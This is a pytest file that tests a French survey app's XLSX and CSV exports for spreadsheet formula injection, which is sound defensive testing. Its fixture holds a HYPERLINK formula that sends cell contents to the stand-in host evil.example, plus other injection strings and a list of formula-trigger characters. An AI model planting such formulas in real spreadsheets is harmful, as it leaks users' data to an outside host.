"""Exporting a campaign's answers: XLSX sheets, CSV for French Excel, no formula injection."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from services.web.spreadsheets import neutralise
from surveys.exports import campaign_csv, campaign_xlsx
from surveys.models import Inventory, InventoryRole, InventoryTask

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.fixture
def filled(inventory_a, inventory_b):
    """Service A answered part of the questionnaire and described two tasks."""
    inventory_a.status = Inventory.Status.SUBMITTED
    inventory_a.answers = {
        "service": {
            "missions": HYPERLINK,
            "public": ["habitants", "elus"],
            "yearly_requests": 12000,
        },
        "ai_use": {"tools": ["public_chatbot"], "tools_other": "@SUM(A1:A9)"},
        "concerns": {"agents_consulted": "yes", "share_consulted": 62.5},
    }
    inventory_a.save(update_fields=["status", "answers"])
    officer = inventory_a.roles.get(title="Officier d'état civil")
    InventoryTask.objects.create(
        inventory_role=officer,
        position=1,
        description="Rédiger les actes",
        time_share=Decimal("60"),
        task_type="rediger-courrier",
        data_class="D3",
        accountable=True,
        exposure="E0",
        intensity="0.15",
        justification="-2 agents en moins ? Non : acte engageant.",
    )
    InventoryTask.objects.create(
        inventory_role=officer,
        position=2,
        description="+1 rendez-vous par jour",
        time_share=Decimal("40.5"),
        task_type="",
        data_class="D2",
    )
    InventoryRole.objects.create(
        inventory=inventory_a, title="\tMédiateur", headcount=1, fte="0.50", added_by_head=True
    )
    return inventory_a


def workbook(campaign):
    return openpyxl.load_workbook(io.BytesIO(campaign_xlsx(campaign)))


def rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_has_one_sheet_per_answered_section_and_a_task_sheet(campaign, filled):
    assert workbook(campaign).sheetnames == [
        "Le service",
        "IA déjà utilisée",
        "Opportunités pour le service…",
        "Inquiétudes et besoins des…",
        "Commentaires libres",
        "Tâches",
    ]


def test_xlsx_section_sheet_has_one_row_per_inventory_with_choice_labels(campaign, filled):
    sheet_rows = rows(workbook(campaign)["Le service"])
    assert sheet_rows[0] == [
        "Direction",
        "Service",
        "État",
        "Missions du service",
        "Public servi",
        "Nombre de demandes traitées par an (estimation)",
        "Horaires d'ouverture au public",
    ]
    assert sheet_rows[1] == [
        "Cadre de vie",
        "Espaces verts",
        "Non commencé",
        None,
        None,
        None,
        None,
    ]
    assert sheet_rows[2] == [
        "Population",
        "État civil",
        "Soumis",
        "'" + HYPERLINK,
        "Habitants; Élus",
        12000,
        None,
    ]


def test_xlsx_shows_yes_no_and_percentages_readably(campaign, filled):
    sheet_rows = rows(workbook(campaign)["Inquiétudes et besoins des…"])
    header, row = sheet_rows[0], sheet_rows[2]
    assert (
        row[header.index("Les agents du service ont-ils été associés à cet état des lieux ?")]
        == "oui"
    )
    assert row[header.index("Part des agents du service consultés (%)")] == 62.5


def test_xlsx_task_sheet_has_one_row_per_task_and_one_per_role_without_task(campaign, filled):
    sheet_rows = rows(workbook(campaign)["Tâches"])
    assert sheet_rows[0][:8] == [
        "Direction",
        "Service",
        "Poste",
        "Effectif",
        "ETP",
        "Ajouté par le chef de service",
        "N'existe plus",
        "Tâche",
    ]
    assert len(sheet_rows[0]) == 15
    by_task = {row[7]: row for row in sheet_rows[1:]}
    assert by_task["Rédiger les actes"] == [
        "Population",
        "État civil",
        "Officier d'état civil",
        6,
        5.5,
        "non",
        "non",
        "Rédiger les actes",
        60,
        "Rédiger un courrier",
        "D3",
        "oui",
        "E0",
        "10 à 20 %",
        "'-2 agents en moins ? Non : acte engageant.",
    ]
    roles = [row[2] for row in sheet_rows[1:]]
    assert roles.count("Jardinier") == 1 and roles.count("Agent d'accueil") == 1
    assert len(sheet_rows) == 1 + 2 + 1 + 1 + 1  # two tasks, and three roles without task


def test_csv_is_the_task_table_for_french_excel(campaign, filled):
    content = campaign_csv(campaign)
    assert content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert table[0][0:3] == ["Direction", "Service", "Poste"]
    officer_rows = [row for row in table if row[2] == "Officier d'état civil"]
    assert [row[7] for row in officer_rows] == ["Rédiger les actes", "'+1 rendez-vous par jour"]
    assert officer_rows[0][3:5] == ["6", "5,50"]
    assert officer_rows[1][8] == "40,50"
    assert b"\r\n" in content and b";" in content.splitlines()[0]


@pytest.mark.parametrize("export", [campaign_csv, campaign_xlsx])
def test_no_cell_begins_with_a_formula_character_in_either_format(campaign, filled, export):
    if export is campaign_csv:
        text = campaign_csv(campaign).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    else:
        book = workbook(campaign)
        cells = [c for sheet in book for row in rows(sheet) for c in row if isinstance(c, str)]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'\tMédiateur" in cells


def test_xlsx_keeps_the_injected_text_as_text_not_as_a_formula(campaign, filled):
    book = openpyxl.load_workbook(io.BytesIO(campaign_xlsx(campaign)))
    cell = book["IA déjà utilisée"]["E3"]
    assert (cell.value, cell.data_type) == ("'@SUM(A1:A9)", "s")


def test_export_leaves_the_stored_values_intact(campaign, filled):
    campaign_xlsx(campaign)
    campaign_csv(campaign)
    filled.refresh_from_db()
    assert filled.answers["service"]["missions"] == HYPERLINK
    assert InventoryTask.objects.filter(description="+1 rendez-vous par jour").exists()
    assert InventoryRole.objects.filter(title="\tMédiateur").exists()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Rédiger", "Rédiger"),
        ("a=b", "a=b"),
        (-2, -2),
    ],
)
def test_neutralise_prefixes_only_texts_that_begin_like_a_formula(value, expected):
    assert neutralise(value) == expected


def test_export_queries_do_not_grow_with_the_number_of_tasks(
    campaign, filled, django_assert_max_num_queries
):
    with django_assert_max_num_queries(4):
        campaign_xlsx(campaign)
    role = filled.roles.get(title="Agent d'accueil")
    InventoryTask.objects.bulk_create(
        InventoryTask(inventory_role=role, description=f"Tâche {n}") for n in range(30)
    )
    with django_assert_max_num_queries(4):
        campaign_xlsx(campaign)
    with django_assert_max_num_queries(3):
        campaign_csv(campaign)
